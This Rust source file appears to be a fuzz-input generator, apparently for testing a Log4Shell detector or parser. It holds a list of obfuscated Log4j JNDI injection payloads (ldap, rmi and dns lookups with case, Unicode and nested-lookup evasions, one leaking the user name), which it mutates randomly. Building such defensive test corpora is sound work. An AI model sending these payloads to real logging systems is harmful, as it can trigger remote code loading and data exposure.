//! Random messages: payloads with mistakes, and pieces of the grammar in any order.

use super::versions::Chance;

/// Payloads, wrapped in the ways that were seen and in some that were not.
const PAYLOADS: [&str; 26] = [
    "${jndi:ldap://x/a}",
    "${${lower:j}ndi:${lower:l}dap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
    "${${env:NO:-j}ndi${env:NO:-:}ldap://x/a}",
    "$${jndi:ldap://x/a} ${",
    "${${upper:j}${upper:n}di:dns://x}",
    "${jnd${upper:\u{131}}:ldap://x}",
    "${jnd${lower:\u{130}}:ldap://x}",
    "${jndi:\\-ldap:-x}",
    "${${a:\\-b:-jndi}:ldap://x/a}",
    "${${date:'j'}ndi:ldap://x}",
    "${${date:'jndi:ldap://x'}}",
    "${${date:}jndi:ldap://x}",
    "${b:-${b}}${jndi:ldap://x/a}",
    "${lower:$}{jndi:ldap://x/a} ${",
    "${lower:$${jndi:ldap://x/a}}",
    "${${lower:${lower:jndi}}:${lower:rmi}://x}",
    "${${::-${::-$${::-j}}}ndi:ldap://x}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x/${sys:user.name:-y}}",
    "${${sd:a:-j}ndi${map:b:-:}${main:0:-ldap}://x}",
    "${ctx:jndi:ldap://x}",
    "${JNDI:ldap://x}${jNdI:rmi://y}",
    "${}${jndi:ldap://x}",
    "${jndi:java:comp/env/x}",
    "text ${HOME} ${user.name:-none} text",
    "${bundle:a:b:-${jndi:x:y}}",
];

/// What means something to the grammar, and some that do not.
const PIECES: [&str; 48] = [
    "${",
    "${",
    "${",
    "}",
    "}",
    "}",
    "$",
    "$$",
    "{",
    ":",
    "-",
    ":-",
    ":\\-",
    "\\",
    "jndi",
    "jndi:",
    "j",
    "ndi",
    "i",
    "ldap://x/a",
    "x",
    "a",
    " ",
    "lower:",
    "upper:",
    "LOWER:",
    "Upper:",
    "date:",
    "env:",
    "sys:",
    "ctx:",
    "java:",
    "map:",
    "::-",
    "'",
    "''",
    "yyyy",
    "'j'",
    "Q",
    "\u{131}",
    "\u{130}",
    "\u{17f}",
    "\u{212a}",
    "\u{df}",
    "\u{1f600}",
    "\u{e9}",
    "/",
    "${::-j}",
];

/// Longest message, in characters: nesting costs the square of its depth.
const CHARS_MAX: usize = 400;

/// Messages without end from one seed.
pub(super) struct Messages {
    chance: Chance,
}

impl Messages {
    pub(super) const fn new(seed: u64) -> Self {
        Self { chance: Chance::new(seed) }
    }

    /// The next message; it holds neither line ends nor tabs.
    pub(super) fn next_message(&mut self) -> String {
        let mut chars: Vec<char> = match self.chance.below(4) {
            0 => self.pieces(),
            1 => self.spelled(),
            2 => format!("{}{}", self.chance.pick(&PAYLOADS), self.chance.pick(&PAYLOADS)),
            _ => self.chance.pick(&PAYLOADS).to_owned(),
        }
        .chars()
        .collect();
        for _ in 0..self.chance.below(5) {
            self.mutate(&mut chars);
        }
        chars.truncate(CHARS_MAX);
        chars.into_iter().collect()
    }

    fn pieces(&mut self) -> String {
        (0..2 + self.chance.below(14)).map(|_| self.chance.pick(&PIECES)).collect()
    }

    /// A payload whose letters are wrapped one by one.
    fn spelled(&mut self) -> String {
        let mut out = "${".to_owned();
        for letter in "jndi:ldap://x/a".chars() {
            match self.chance.below(7) {
                0 => out.push_str(&format!("${{lower:{letter}}}")),
                1 => out.push_str(&format!("${{upper:{letter}}}")),
                2 => out.push_str(&format!("${{::-{letter}}}")),
                3 => out.push_str(&format!("${{env:N{letter}:-{letter}}}")),
                4 if self.chance.below(3) == 0 => out.push_str(&format!("${{date:'{letter}'}}")),
                _ => out.push(letter),
            }
        }
        out.push('}');
        out
    }

    fn mutate(&mut self, chars: &mut Vec<char>) {
        let at = self.chance.below(chars.len() + 1);
        let until = (at + 1 + self.chance.below(4)).min(chars.len());
        let piece = self.chance.pick(&PIECES).chars();
        match self.chance.below(5) {
            0 => drop(chars.drain(at..until)),
            1 => drop(chars.splice(at..at, piece)),
            2 => drop(chars.splice(at..until, piece)),
            3 => chars.extend_from_within(at..),
            _ => {
                let other = self.chance.below(chars.len());
                if at < chars.len() {
                    chars.swap(at, other);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_seed_gives_the_same_messages_and_each_is_one_line() {
        let messages = |seed| {
            let mut messages = Messages::new(seed);
            (0..2_000).map(|_| messages.next_message()).collect::<Vec<_>>()
        };
        assert_eq!(messages(7), messages(7));
        assert_ne!(messages(7), messages(8));
        let odd = |message: &String| message.contains(['\n', '\r', '\t']);
        assert!(!messages(7).iter().any(odd));
        assert!(messages(7).iter().all(|message| message.chars().count() <= CHARS_MAX));
    }
}
